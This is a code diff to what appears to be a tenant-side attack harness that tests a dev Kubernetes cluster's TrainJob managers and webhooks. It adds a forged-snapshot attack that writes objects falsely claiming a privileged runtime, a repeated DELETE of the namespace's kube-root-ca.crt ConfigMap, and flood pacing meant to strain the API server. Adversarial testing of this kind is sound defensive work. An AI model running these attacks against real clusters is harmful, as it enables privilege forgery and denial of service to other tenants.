@@ -31,7 +31,9 @@ API_PAUSE = 1.0
 """Seconds between two requests of an attack that goes through the API server. The dev cluster's is one process in
 Python, which shares the machine with all others: faster attacks would show its limits, and not the managers'."""
 FLOOD_PAUSE = 0.2
-"""The same, for small objects."""
+"""The same, for small objects. A TrainJob whose runtime does not exist costs the dev cluster 22 ms of CPU, with both
+webhooks, status and event: 2,050 of them in a minute, and nothing else, would take two thirds of its only process."""
+SLOW_PAUSE = 5.0
 BODIES_PAUSE = 5.0
 BODIES_AT_ONCE = 17
 CONFIG_MAPS = 60
@@ -56,21 +58,25 @@ class Attacker:
             await attack(number)
             await asyncio.sleep(pause)
 
-    async def send(self, attack: str, url: str, body: bytes, method: str = "POST") -> None:
-        """Send one request and count its answer; a connection that breaks counts as an answer."""
+    async def send(self, attack: str, url: str, body: bytes, method: str = "POST") -> bytes:
+        """Send one request, count its answer and return it; a connection that breaks counts as an answer."""
         headers = {"Content-Type": "application/json"}
         if url.startswith(self.server):
             headers["Authorization"] = f"Bearer {os.environ[TOKEN]}"
         try:
             async with self.session.request(method, url, data=body, headers=headers) as answer:
-                await answer.read()
+                content = await answer.read()
                 self.answers[f"{attack}: {answer.status}"] += 1
+                return content
         except (aiohttp.ClientError, TimeoutError) as error:
             self.answers[f"{attack}: {type(error).__name__}"] += 1
+            return b""
 
-    async def write(self, attack: str, obj: objects.Object, *, query: str = "") -> None:
+    async def write(self, attack: str, obj: objects.Object, *, query: str = "") -> bytes:
         """Create an object in the tenant's namespace."""
-        await self.send(attack, f"{self.collection(obj['kind'], obj['apiVersion'])}{query}", objects.encoded(obj))
+        return await self.send(
+            attack, f"{self.collection(obj['kind'], obj['apiVersion'])}{query}", objects.encoded(obj)
+        )
 
     def collection(self, kind: str, api_version: str) -> str:
         """The URL of all objects of a kind in the tenant's namespace."""
@@ -109,6 +115,19 @@ class Attacker:
     async def invented_runtime(self, number: int) -> None:
         """Create a TrainJob whose runtime does not exist."""
         await self.write("invented runtime", objects.train_job(f"invented-{number}", runtime=f"invented-{number}"))
+
+    async def forged_snapshot(self, number: int) -> None:
+        """Create a TrainJob whose runtime does not exist, and what says that it was built on a privileged one."""
+        name = f"forged-{number}"
+        content = await self.write("TrainJob to forge", objects.train_job(name, runtime=name))
+        train_job = json.loads(content or b"{}")
+        if train_job.get("kind") == "TrainJob":
+            for obj in objects.forged(train_job):
+                await self.write(f"forged {obj['kind']}", obj)
+
+    async def root_certificate(self, number: int) -> None:
+        """Delete the ConfigMap that all pods of the namespace mount."""
+        await self.send("root certificate", f"{self.collection('ConfigMap', 'v1')}/kube-root-ca.crt", b"", "DELETE")
 
     async def event(self, number: int) -> None:
         """Create an event that seems to be about one of the tenant's Jobs."""
@@ -162,6 +181,8 @@ async def main(server: str, namespace: str, seconds: float, webhooks: list[str])
                 attacker.config_map,
             ):
                 attacks.create_task(attacker.repeat(attack, API_PAUSE))
+            for attack in (attacker.forged_snapshot, attacker.root_certificate):
+                attacks.create_task(attacker.repeat(attack, SLOW_PAUSE))
             for attack in (attacker.invented_runtime, attacker.event):
                 attacks.create_task(attacker.repeat(attack, FLOOD_PAUSE))
             attacks.create_task(attacker.repeat(attacker.long_kind))
